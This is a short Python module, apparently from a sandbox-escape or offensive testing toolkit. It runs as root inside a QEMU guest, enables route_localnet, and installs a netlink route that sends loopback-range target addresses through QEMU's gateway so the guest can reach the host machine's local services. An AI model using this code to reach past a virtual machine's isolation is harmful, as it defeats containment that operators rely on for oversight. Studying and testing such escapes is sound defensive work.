"""Loopback addresses of the machine, as a guest's card can reach them.

A guest has a loopback of its own, and to talk to that proves nothing. Its root can have these addresses lead to QEMU,
which calls them as the process that it is.
"""

from __future__ import annotations

import os
import socket
import struct
from pathlib import Path

from exeat.attack.outside.targets import LOW

_QEMU = "10.0.2.2"
_RTM_NEWROUTE = 24
_REQUEST_CREATE_ACK = 0x1 | 0x400 | 0x4
_LOCAL, _UNIVERSE, _UNICAST = 255, 0, 1
_RTA_DST, _RTA_OIF, _RTA_GATEWAY = 1, 4, 5
_BITS = 16


def lead_out() -> None:
    """For the addresses that targets have, and not for 127.0.0.1: programs in the guest talk by it. Needs root."""
    card = next(name for _, name in socket.if_nameindex() if name != "lo")
    Path(f"/proc/sys/net/ipv4/conf/{card}/route_localnet").write_text("1")
    attributes = (
        (_RTA_DST, socket.inet_aton(LOW)[:2] + b"\0\0"),
        (_RTA_GATEWAY, socket.inet_aton(_QEMU)),
        (_RTA_OIF, struct.pack("=I", socket.if_nametoindex(card))),
    )
    head = struct.pack("=BBBBBBBBI", socket.AF_INET, _BITS, 0, 0, _LOCAL, 3, _UNIVERSE, _UNICAST, 0)
    body = head + b"".join(struct.pack("=HH", 4 + len(value), kind) + value for kind, value in attributes)
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as sock:
        sock.sendto(struct.pack("=IHHII", 16 + len(body), _RTM_NEWROUTE, _REQUEST_CREATE_ACK, 1, 0) + body, (0, 0))
        (code,) = struct.unpack("=i", sock.recv(65536)[16:20])
    if code:
        raise OSError(-code, os.strerror(-code))
